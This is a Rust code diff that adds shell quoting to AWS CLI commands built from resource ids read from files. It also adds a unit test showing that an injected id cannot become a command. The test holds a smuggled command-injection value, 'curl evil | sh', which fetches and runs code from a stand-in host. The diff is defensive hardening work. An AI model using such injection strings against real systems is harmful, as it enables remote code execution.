@@ -157,7 +157,9 @@ pub enum Change {
 impl Change {
     /// The commands that make this change, in order; none where no command can.
     pub fn commands(&self) -> Vec<String> {
-        match self {
+        // Ids come from files that anybody may have written, and these lines go into a shell.
+        let quoted = self.quoted();
+        match &quoted {
             Self::AllowAddresses { .. }
             | Self::EnablePublicEndpoint { .. }
             | Self::SetSslMode { endpoint: None, .. } => Vec::new(),
@@ -291,6 +293,64 @@ impl Change {
                 }
             }
         }
+    }
+
+    /// The same change with every name fit for a shell.
+    fn quoted(&self) -> Self {
+        let mut change = self.clone();
+        let names: Vec<&mut String> = match &mut change {
+            Self::AllowAddresses { host, .. } | Self::EnablePublicEndpoint { host } => vec![host],
+            Self::AddAclEntry { region, acl, .. } => vec![region, acl],
+            Self::AttachInternetGateway {
+                region,
+                gateway,
+                vpc,
+            } => vec![region, gateway, vpc],
+            Self::AllowInGroup { region, group, .. } => vec![region, group],
+            Self::DisableSourceDestCheck { region, interface } => vec![region, interface],
+            Self::ExcludeFromBlockPublicAccess {
+                region,
+                subnet,
+                mode,
+            } => {
+                vec![region, subnet, mode]
+            }
+            Self::NewNatGateway {
+                region,
+                vpc,
+                subnet,
+                tables,
+                destination,
+            } => tables
+                .iter_mut()
+                .map(|(table, _)| table)
+                .chain([region, vpc, subnet, destination])
+                .collect(),
+            Self::PutRoute {
+                region,
+                table,
+                destination,
+                target,
+                ..
+            } => {
+                vec![region, table, destination, target]
+            }
+            Self::SetSslMode {
+                region,
+                endpoint,
+                mode,
+                certificate,
+                ..
+            } => [region, mode]
+                .into_iter()
+                .chain(endpoint)
+                .chain(certificate)
+                .collect(),
+        };
+        for name in names {
+            *name = shell_word(name);
+        }
+        change
     }
 
     /// The facts as they would be after this change.
@@ -428,6 +488,16 @@ impl Change {
     }
 }
 
+/// A word that a shell reads as it is written.
+fn shell_word(word: &str) -> String {
+    let plain = |letter: char| letter.is_ascii_alphanumeric() || "-_./:@%+,=".contains(letter);
+    if !word.is_empty() && word.chars().all(plain) {
+        word.to_owned()
+    } else {
+        format!("'{}'", word.replace('\'', r"'\''"))
+    }
+}
+
 fn put_route(
     region: &str,
     table: &str,
@@ -498,4 +568,22 @@ fn route(facts: &mut Facts, table: &str, destination: &str, target: &str) {
     let routes = found.routes.get_or_insert_default();
     routes.retain(|known| known.destination_cidr_block.as_deref() != Some(destination));
     routes.push(route);
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn an_id_from_a_file_can_not_become_a_command() {
+        let change = Change::DisableSourceDestCheck {
+            region: "us-east-1".into(),
+            interface: "eni-1; curl evil | sh '".into(),
+        };
+        let commands = change.commands();
+        assert!(
+            commands[0].contains(r"'eni-1; curl evil | sh '\'''"),
+            "{commands:?}"
+        );
+    }
 }
